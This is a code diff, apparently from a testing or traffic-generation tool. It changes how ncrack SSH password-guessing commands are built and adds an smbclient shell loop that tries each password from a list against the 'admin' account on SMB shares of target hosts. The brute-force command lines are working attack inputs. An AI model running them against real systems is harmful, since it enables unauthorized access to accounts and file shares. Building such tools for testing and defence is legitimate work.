@@ -46,9 +46,18 @@ def _medusa(module: str) -> _Commands:
 
 def _ncrack(place: Place, order: Order) -> list[list[str]]:
     shared = place.site.shared
-    pace = f"ssh:CL={_tasks(order)},to={order.for_s:.0f}s"
     lists = ["-U", str(shared / "users.txt"), "-P", str(shared / "passwords.txt")]
-    return [["ncrack", *lists, "-g", pace.removeprefix("ssh:"), *(f"ssh://{each}" for each in addresses(place, order))]]
+    pace = ["-g", f"CL={_tasks(order)},to={order.for_s:.0f}s"]
+    return [["ncrack", *lists, *pace, *(f"ssh://{address}" for address in addresses(place, order))]]
+
+
+def _shares(place: Place, order: Order) -> list[list[str]]:
+    """One word after the other by smbclient, since Debian's hydra and ncrack do not speak to a samba of today."""
+    script = (
+        'while read -r word; do smbclient -s /dev/null -p 445 -U "admin%$word" -L "$1"; sleep "$2"; done <"$3"; true'
+    )
+    words, pause = str(place.site.shared / "passwords.txt"), f"{1 / order.rate:.2f}"
+    return [["sh", "-c", script, "sh", address, pause, words] for address in addresses(place, order)]
 
 
 def _pages(place: Place, order: Order) -> list[list[str]]:
@@ -73,6 +82,7 @@ GUESSERS: Final = (
     _guess("medusa-ssh", "guesses SSH passwords", "medusa", "ssh", tcp(22), _medusa("ssh")),
     _guess("medusa-ftp", "guesses FTP passwords", "medusa", "ftp", tcp(21), _medusa("ftp")),
     _guess("ncrack-ssh", "guesses SSH passwords", "ncrack", "ssh", tcp(22), _ncrack),
+    _guess("smbclient", "guesses passwords of shares", "smbclient", "smb", tcp(445), _shares),
     Tool(
         "gobuster",
         "guesses the names of pages, rate a second",
